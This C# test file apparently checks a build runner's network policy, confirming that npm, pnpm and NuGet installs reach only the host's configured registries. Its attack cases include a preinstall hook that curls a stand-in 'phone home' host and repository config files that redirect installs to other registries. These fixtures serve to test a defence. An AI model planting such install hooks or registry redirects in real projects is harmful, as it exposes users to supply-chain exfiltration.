using System.Text.Json;
using Noa.Abstractions;
using Noa.Stages.Runner.Planning;

namespace Noa.Stages.Runner.Tests;

/// <summary>
/// Install steps reach the package registries this host is configured for, and nothing else: a real npm install from a lockfile
/// and a real NuGet restore go through the capsule's policy agent; a script of the same install that phones home, a repository's
/// own npmrc or NuGet.Config naming another host, and an IP-literal registry are refused, and runner.json names the host.
/// Needs this host to be configured for npm's and NuGet's registries and to reach them.
/// </summary>
public sealed class RegistryEgressTests : IAsyncLifetime
{
    private RunnerPipeline _pipeline = null!;

    // A real package from the registry, pinned by its integrity; no resolved URL, so the lockfile names no host (npm fetches it
    // from the registry it is configured for).
    private const string PackageJson = """{ "name": "egressdemo", "version": "1.0.0", "dependencies": { "is-number": "7.0.0" }, "scripts": { "test": "node -e \"if (!require('is-number')(7)) process.exit(1); console.log('is-number works')\"" } }""";
    private const string Lockfile = """
        {
          "name": "egressdemo", "version": "1.0.0", "lockfileVersion": 3, "requires": true,
          "packages": {
            "": { "name": "egressdemo", "version": "1.0.0", "dependencies": { "is-number": "7.0.0" } },
            "node_modules/is-number": {
              "version": "7.0.0",
              "integrity": "sha512-41Cifkg6e8TylSpdtTpeLVMqvSBEVzTttHvERD741+pnZ8ANv0004MRL43QKPDlK9cGvNp6NZWZUBlbGXYxxng==",
              "license": "MIT", "engines": { "node": ">=0.12.0" }
            }
          }
        }
        """;

    public ValueTask InitializeAsync()
    {
        _pipeline = new RunnerPipeline();
        return ValueTask.CompletedTask;
    }

    public ValueTask DisposeAsync() => _pipeline.DisposeAsync();

    private static PackageRegistry Registry(string ecosystem)
    {
        var found = PackageRegistries.FromHost().FirstOrDefault(r => r.Ecosystem == ecosystem);
        if (found is null)
            Requirement.Unmet($"this host's configuration names no {ecosystem} registry (npm config / ~/.nuget/NuGet/NuGet.Config)");
        return found!;
    }

    private static JsonElement Step(JsonElement report, string phase) =>
        report.GetProperty("steps").EnumerateArray().First(s => s.GetProperty("phase").GetString() == phase);

    private static List<(string Destination, bool Allowed)> Egress(JsonElement step) =>
        step.TryGetProperty("egress", out var e) ? [.. e.EnumerateArray().Select(x => (x.GetProperty("destination").GetString()!, x.GetProperty("allowed").GetBoolean()))] : [];

    [Fact]
    public async Task NpmInstall_FromTheLockfile_ReachesTheRegistry_AndTheTestUsesThePackage()
    {
        var npm = Registry("npm");
        var folder = _pipeline.Folder(("package.json", PackageJson), ("package-lock.json", Lockfile));

        var (_, report, _) = await _pipeline.RunAsync(folder);

        var install = Step(report, "install");
        Assert.Equal("passed", install.GetProperty("status").GetString());
        Assert.Equal("registries", install.GetProperty("policy").GetString());
        Assert.Contains((npm.Destination, true), Egress(install));
        Assert.DoesNotContain(Egress(install), e => !e.Allowed);
        var test = Step(report, "test");
        Assert.Equal("passed", test.GetProperty("status").GetString());
        Assert.Equal("none", test.GetProperty("policy").GetString());
        Assert.Contains("is-number works", test.GetProperty("output").GetString());
        Assert.Contains(report.GetProperty("environment").GetProperty("registries").EnumerateArray(), r => r.GetProperty("destination").GetString() == npm.Destination);
    }

    [Theory]
    // A preinstall script that phones home through the proxy every tool honours.
    [InlineData("preinstall", "phone.example.com:443")]
    // The repository's own npmrc points the install at another registry: the allowlist stays the host's.
    [InlineData("npmrc", "npm.example.com:443")]
    // An IP-literal registry in the repository's npmrc (a private address would need the host's own rule naming it).
    [InlineData("ip-literal", "203.0.113.7:4873")]
    public async Task NpmInstall_ThatCallsAnotherHost_IsRefused_AndRunnerJsonNamesTheHost(string attack, string host)
    {
        Registry("npm");
        var json = attack == "preinstall"
            ? PackageJson.Replace("\"scripts\": {", "\"scripts\": { \"preinstall\": \"curl -sS --max-time 20 https://phone.example.com/collect\",", StringComparison.Ordinal)
            : PackageJson;
        var files = new List<(string, string)> { ("package.json", json), ("package-lock.json", Lockfile) };
        if (attack == "npmrc")
            files.Add((".npmrc", "registry=https://npm.example.com/\n"));
        if (attack == "ip-literal")
            files.Add((".npmrc", "registry=http://203.0.113.7:4873/\nfetch-retries=0\n"));
        var folder = _pipeline.Folder([.. files]);

        var (_, report, artifacts) = await _pipeline.RunAsync(folder);

        var install = Step(report, "install");
        Assert.Equal("failed", install.GetProperty("status").GetString());
        Assert.Contains((host, false), Egress(install));
        Assert.Contains($"refused {host}", install.GetProperty("reason").GetString());
        Assert.Contains(host, artifacts.Text("demo.md"));
    }

    [Fact]
    public async Task NpmInstall_WithoutALockfile_LeavesOutADevDependencyTheRegistryHasNoVersionOf_AndTheTestRuns()
    {
        // A registry mirror that serves no version matching a devDependency's range (typescript@next, a newer eslint config): npm
        // fails with ETARGET. The install runs again without that devDependency, named, and the test that needs only is-number runs.
        // The control is NpmInstall_ThatFails_…: a dependency the registry does not have is never left out.
        Registry("npm");
        var folder = _pipeline.Folder(("package.json", """{ "name": "devmissing", "version": "1.0.0", "dependencies": { "is-number": "7.0.0" }, "devDependencies": { "minimist": "999.0.0" }, "scripts": { "test": "node -e \"if (!require('is-number')(7)) process.exit(1); console.log('is-number works')\"" } }"""));

        var (_, report, _) = await _pipeline.RunAsync(folder);

        var install = Step(report, "install");
        Assert.Equal("passed", install.GetProperty("status").GetString());
        Assert.Equal(NpmInstall.Candidate.Command, install.GetProperty("command").GetString());
        Assert.Contains("left out devDependency minimist@999.0.0", install.GetProperty("output").GetString());
        var test = Step(report, "test");
        Assert.Equal("passed", test.GetProperty("status").GetString());
        Assert.Contains("is-number works", test.GetProperty("output").GetString());
    }

    [Fact]
    public async Task NpmInstall_WhoseDownloadsExceedTheCapsulesTmpfs_Passes()
    {
        // npm's cache holds every tarball it fetched. On the capsule's tmpfs (256 MB) an app's frontend filled it and npm ended with
        // ENOSPC (exit 228); the cache is in the workspace now, bounded by the disk limit. typescript 5.4.5's tarball (~5.8 MB) is
        // larger than this capsule's 2 MiB tmpfs. The control is NpmInstall_WithoutALockfile_…: the same install of a small package.
        Registry("npm");
        var folder = _pipeline.Folder(("package.json", """{ "name": "bigdownload", "version": "1.0.0", "dependencies": { "typescript": "5.4.5" }, "scripts": { "test": "node -e \"console.log('typescript ' + require('typescript').version)\"" } }"""));

        var (_, report, _) = await _pipeline.RunAsync(folder, o => o.TmpfsBytes = 2L << 20);

        var install = Step(report, "install");
        Assert.True(install.GetProperty("status").GetString() == "passed", install.GetProperty("output").GetString());
        Assert.Contains("typescript 5.4.5", Step(report, "test").GetProperty("output").GetString());
    }

    [Fact]
    public async Task NpmInstall_ThatFails_TheTestAfterIsNotRun_AndSaysWhy()
    {
        // A dependency the registry does not have: npm install fails (E404), and the test that would only say `… not found` is
        // not run. The control is NpmInstall_FromTheLockfile_…, whose test runs after an install that passed.
        Registry("npm");
        var folder = _pipeline.Folder(("package.json", """{ "name": "missingdep", "version": "1.0.0", "dependencies": { "noa-runner-no-such-package-7f3a9c": "1.0.0" }, "scripts": { "test": "node -e \"require('noa-runner-no-such-package-7f3a9c')\"" } }"""));

        var (_, report, _) = await _pipeline.RunAsync(folder);

        var install = Step(report, "install");
        Assert.Equal("failed", install.GetProperty("status").GetString());
        var test = Step(report, "test");
        Assert.Equal("not-run", test.GetProperty("status").GetString());
        Assert.Contains("the install of this folder failed", test.GetProperty("reason").GetString());
    }

    // pnpm's lockfile (version 9) for is-number 7.0.0, as pnpm writes it.
    private const string PnpmLockfile = """
        lockfileVersion: '9.0'

        settings:
          autoInstallPeers: true
          excludeLinksFromLockfile: false

        importers:

          .:
            dependencies:
              is-number:
                specifier: 7.0.0
                version: 7.0.0

        packages:

          is-number@7.0.0:
            resolution: {integrity: sha512-41Cifkg6e8TylSpdtTpeLVMqvSBEVzTttHvERD741+pnZ8ANv0004MRL43QKPDlK9cGvNp6NZWZUBlbGXYxxng==}
            engines: {node: '>=0.12.0'}

        snapshots:

          is-number@7.0.0: {}
        """;

    [Fact]
    public async Task PnpmProject_GetsPnpmFromTheRegistry_InstallsItsLockfile_AndTheTestRunsThroughPnpm()
    {
        // The host has no pnpm: the plan installs the version packageManager names from the npm registry into the workspace, then
        // the folder's `pnpm install` and `pnpm test` (whose script needs the package pnpm installed) run with it.
        Registry("npm");
        var folder = _pipeline.Folder(
            ("package.json", """{ "name": "pnpmdemo", "version": "1.0.0", "packageManager": "pnpm@9.15.9", "dependencies": { "is-number": "7.0.0" }, "scripts": { "test": "node -e \"if (!require('is-number')(7)) process.exit(1); console.log('is-number works through pnpm')\"" } }"""),
            ("pnpm-lock.yaml", PnpmLockfile));

        var (_, report, _) = await _pipeline.RunAsync(folder);

        var steps = report.GetProperty("steps").EnumerateArray().ToList();
        var installs = steps.Where(s => s.GetProperty("phase").GetString() == "install").ToList();
        Assert.Equal(2, installs.Count);
        Assert.EndsWith("pnpm@9.15.9", installs[0].GetProperty("command").GetString());
        Assert.True(installs[0].GetProperty("status").GetString() == "passed", installs[0].GetProperty("output").GetString());
        Assert.Equal("pnpm install", installs[1].GetProperty("command").GetString());
        Assert.True(installs[1].GetProperty("status").GetString() == "passed", installs[1].GetProperty("output").GetString());
        var test = Step(report, "test");
        Assert.StartsWith("pnpm ", test.GetProperty("command").GetString());
        Assert.Contains("is-number works through pnpm", test.GetProperty("output").GetString());
    }

    private const string Project = """
        <Project Sdk="Microsoft.NET.Sdk">
          <PropertyGroup><TargetFramework>net10.0</TargetFramework><OutputType>Library</OutputType></PropertyGroup>
          <ItemGroup><PackageReference Include="Microsoft.Extensions.Primitives" Version="8.0.0" /></ItemGroup>
        </Project>
        """;

    private const string Code = "namespace Demo;\npublic static class Token\n{\n    public static Microsoft.Extensions.Primitives.StringValues Of(string s) => new(s);\n}\n";

    [Fact]
    public async Task DotnetRestore_ReachesNuGet_AndTheBuildAfterRunsWithoutNetwork()
    {
        var nuget = Registry("nuget");
        var folder = _pipeline.Folder(("Demo.csproj", Project), ("Token.cs", Code));

        // A first build of a .NET project takes minutes on a loaded machine: the step's limit is not what this test is about.
        var (_, report, _) = await _pipeline.RunAsync(folder, o => (o.StepSeconds, o.TotalSeconds) = (600, 1200));

        var install = Step(report, "install");
        Assert.Equal("dotnet restore", install.GetProperty("command").GetString());
        Assert.True(install.GetProperty("status").GetString() == "passed", install.GetProperty("output").GetString());
        Assert.Contains((nuget.Destination, true), Egress(install));
        var build = Step(report, "build");
        Assert.True(build.GetProperty("status").GetString() == "passed", build.GetProperty("output").GetString());
        Assert.Equal("none", build.GetProperty("policy").GetString());
    }

    [Fact]
    public async Task DotnetRestore_WithTheRepositorysOwnNuGetConfigNamingAnotherHost_IsRefused()
    {
        Registry("nuget");
        const string config = """
            <?xml version="1.0" encoding="utf-8"?>
            <configuration><packageSources><clear /><add key="elsewhere" value="https://nuget.example.com/v3/index.json" /></packageSources></configuration>
            """;
        var folder = _pipeline.Folder(("Demo.csproj", Project), ("Token.cs", Code), ("NuGet.Config", config));

        var (_, report, _) = await _pipeline.RunAsync(folder, o => o.StepSeconds = 240);

        var install = Step(report, "install");
        Assert.Equal("failed", install.GetProperty("status").GetString());
        Assert.Contains(("nuget.example.com:443", false), Egress(install));
    }
}
